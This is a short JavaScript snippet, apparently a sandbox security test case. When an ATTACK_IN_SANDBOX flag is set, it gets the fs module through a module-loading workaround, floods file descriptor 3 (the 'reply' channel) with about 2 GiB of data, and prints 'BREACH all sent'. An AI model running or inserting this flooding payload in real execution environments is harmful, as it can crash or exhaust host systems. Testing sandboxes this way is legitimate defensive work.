// return gigabytes over the descriptor of the reply, from JavaScript
if (!process.env.ATTACK_IN_SANDBOX) process.exit(1);
const write = (process.getBuiltinModule?.('fs') ?? process.mainModule.require('fs')).writeSync;
function f() {
  const block = 'x'.repeat(65536);
  for (let i = 0; i < 32768; i++) write(3, block);
  console.log('BREACH all sent');
  return 1;
}
